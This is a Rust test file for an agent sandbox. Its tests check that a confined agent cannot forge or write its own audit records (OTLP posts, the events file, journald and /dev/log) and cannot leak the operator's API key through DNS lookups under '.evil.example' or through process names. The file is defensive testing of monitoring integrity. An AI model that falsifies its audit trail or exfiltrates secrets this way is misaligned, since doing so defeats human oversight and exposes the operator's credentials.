//! What an agent tries against the places that its own record is sent to.

use std::{fs, net::TcpListener, os::unix::net::UnixDatagram, time::Instant};

use http::StatusCode;
use palisade_testkit::{Recorded, Upstream, answer};

use crate::world::{SECRET, World, finish};

const MARK: &str = "a-record-that-the-agent-made-up";

fn receiver() -> Upstream {
    Upstream::start(|_: Recorded| async { answer(StatusCode::OK, "text/plain", "") }).unwrap()
}

/// The receiver is on this machine's loopback, and the agent may not speak to it: neither to read nor to
/// put a record of its own there.
#[test]
fn speaks_to_an_export_destination() {
    let server = receiver();
    let port = server.address().port();
    let Some(world) = World::new(&format!("audit: {{otlp: \"http://127.0.0.1:{port}\"}}")) else {
        return;
    };
    let program = format!(
        r#"
import socket
reached = 0
for family, host in [(2, "127.0.0.1"), (2, "localhost"), (10, "::1"), (10, "::ffff:127.0.0.1"), (2, "0.0.0.0"), (2, "127.1.2.3")]:
    try:
        s = socket.socket(family)
        s.settimeout(5)
        s.connect((host, {port}))
        s.sendall(b"POST /v1/logs HTTP/1.1\r\nhost: x\r\ncontent-length: {length}\r\n\r\n{MARK}")
        if s.recv(64).startswith(b"HTTP/1.1 200"):
            reached += 1
    except OSError:
        pass
print(reached)
"#,
        length = MARK.len()
    );
    let outside = world.outside_python(&program);
    assert!(outside.good().parse::<u32>().unwrap() >= 1);
    let forged = server.requests().iter().filter(|request| request.contains(MARK)).count();
    assert!(forged >= 1);
    assert_eq!(world.inside_python(&program).good(), "0");
    let after = server.requests();
    assert_eq!(after.iter().filter(|request| request.contains(MARK)).count(), forged);
    // While what is ours came.
    assert!(
        after.iter().any(|request| request.uri.path() == "/v1/logs" && !request.contains(MARK))
    );
    world.verify();
}

/// Neither the file of events nor the journal's socket can be written from inside, or is even there.
#[test]
fn writes_to_the_files_that_events_go_to() {
    let Some(world) = World::new("audit: {ocsf: ../log/events.jsonl, journald: ../log/socket}")
    else {
        return;
    };
    fs::create_dir(world.at("log")).unwrap();
    let socket = UnixDatagram::bind(world.at("log/socket")).unwrap();
    socket.set_nonblocking(true).unwrap();
    let (file, path) = (world.at("log/events.jsonl"), world.at("log/socket"));
    let (file_shown, path) = (file.display(), path.display());
    let state = world.at("state");
    let program = format!(
        r#"
import socket, glob
written = 0
for path in ["{file_shown}"] + glob.glob("{state}/export/**", recursive=True) + ["{state}/export/x", "{state}/journal/x"]:
    try:
        open(path, "a").write("{MARK}\n")
        written += 1
    except OSError:
        pass
for path in ["{path}", "/run/systemd/journal/socket", "/dev/log"]:
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        s.sendto(b"MESSAGE={MARK}\n", path)
        written += path.startswith("{path}")
    except OSError:
        pass
print(written)
"#,
        state = state.display()
    );
    assert!(world.outside_python(&program).good().parse::<u32>().unwrap() >= 2);
    fs::remove_file(&file).unwrap();
    let mut bytes = [0; 1 << 17];
    while socket.recv(&mut bytes).is_ok() {}
    assert_eq!(world.inside_python(&program).good(), "0");
    let text = fs::read_to_string(&file).unwrap();
    let kinds: Vec<String> = text
        .lines()
        .map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap())
        .map(|event| event["metadata"]["event_code"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(
        (kinds.first().unwrap().as_str(), kinds.last().unwrap().as_str()),
        ("journal_open", "end")
    );
    let mut datagrams = 0;
    while let Ok(read) = socket.recv(&mut bytes) {
        let text = String::from_utf8_lossy(&bytes[..read]).into_owned();
        assert!(!text.contains("MESSAGE=") && text.contains("PALISADE_SESSION"), "{text}");
        datagrams += 1;
    }
    assert_eq!(datagrams, kinds.len());
    world.verify();
}

/// A policy that would let the agent answer for the receiver is none.
#[test]
fn stands_in_for_the_receiver_by_a_published_port() {
    let policy = "network: {expose: [4318]}\naudit: {otlp: \"http://localhost:4318\"}";
    let Some(world) = World::new(policy) else { return };
    let ran = world.inside_sh("true");
    assert_eq!(ran.code, Some(125), "{ran}");
    assert!(ran.err.contains("4318 of the sandbox"), "{ran}");
    let policy = "filesystem: {workspace: {path: ../work}}\naudit: {ocsf: ../work/events.jsonl}";
    let Some(world) = World::new(policy) else { return };
    let ran = world.inside_sh("true");
    assert_eq!(ran.code, Some(125), "{ran}");
    assert!(ran.err.contains("which the agent may write"), "{ran}");
}

/// A receiver that accepts and says nothing slows no act down and lets none pass.
#[test]
fn is_let_go_because_the_receiver_hangs() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let audit = format!(
        "audit: {{otlp: \"http://127.0.0.1:{port}\", syslog: \"tcp://127.0.0.1:{port}\", flush: 1s}}"
    );
    let Some(world) = World::new(&audit) else { return };
    let program = r#"
import socket, time
begun, refused = time.monotonic(), 0
for n in range(300):
    try:
        socket.getaddrinfo(f"host-{n}.evil.example", 443)
    except OSError:
        refused += 1
print(refused, time.monotonic() - begun < 60)
"#;
    let begun = Instant::now();
    let ran = world.inside_python(program);
    assert_eq!(ran.out.trim(), "300 True", "{ran}");
    assert!(ran.err.contains("were not sent"), "{ran}");
    assert!(begun.elapsed().as_secs() < 120);
    let denied = world.events().iter().filter(|event| event["decision"] == "deny").count();
    assert!(denied >= 200, "{denied}");
    world.verify();
}

/// The operator's key, used for a request and thrown at every name there is, is in no export.
#[test]
fn carries_a_secret_out_by_its_own_record() {
    let (server, api) = (receiver(), receiver());
    let (port, api_port) = (server.address().port(), api.address().port());
    let Some(world) = World::new(&format!(
        "network:
  hosts: {{api.test: [127.0.0.1]}}
  rules: [{{name: api, hosts: [api.test], ports: [{api_port}], addresses: [127.0.0.1], credential: key}}]
credentials:
  key: {{from: {{env: {}}}, header: \"x-key: {{secret}}\", expose: API_KEY}}
  sign: {{from: {{env: {}}}}}
audit:
  ocsf: ../log/events.jsonl
  otlp: \"http://127.0.0.1:{port}\"
  webhook: {{url: \"http://127.0.0.1:{port}/in\", secret: sign}}",
        SECRET.0, SECRET.0
    )) else {
        return;
    };
    let program = format!(
        r#"
import http.client, os, socket, subprocess
key = os.environ["API_KEY"]
c = http.client.HTTPConnection("api.test", {api_port})
c.request("GET", "/" , headers={{"x-key": key}})
print(c.getresponse().status)
for name in [key, key[:40] + ".evil.example"]:
    try: socket.getaddrinfo(name, 443)
    except (OSError, UnicodeError): pass
try: subprocess.run(["/nonexistent/" + key])
except OSError: pass
"#
    );
    assert_eq!(world.inside_python(&program).good(), "200");
    // It was really used.
    assert!(api.requests().iter().any(|request| request.contains(SECRET.1)));
    let requests = server.requests();
    assert!(requests.iter().any(|request| request.uri.path() == "/in"));
    assert!(requests.iter().any(|request| request.uri.path() == "/v1/traces"));
    for request in &requests {
        assert!(!request.contains(SECRET.1), "{}", request.uri);
    }
    let mut texts = vec![world.read("log/events.jsonl")];
    for form in ["jsonl", "ocsf", "otlp-json", "syslog"] {
        let ran = finish(world.palisade().args(["audit", "export", "--format", form]));
        assert_eq!(ran.code, Some(0), "{ran}");
        texts.push(ran.out);
    }
    for folder in fs::read_dir(world.at("state/export")).unwrap().flatten() {
        let done = fs::read_dir(folder.path().join("done")).into_iter().flatten().flatten();
        texts.extend(done.map(|file| fs::read_to_string(file.path()).unwrap()));
    }
    assert!(texts.len() > 5);
    for text in texts {
        assert!(!text.contains(SECRET.1));
    }
}
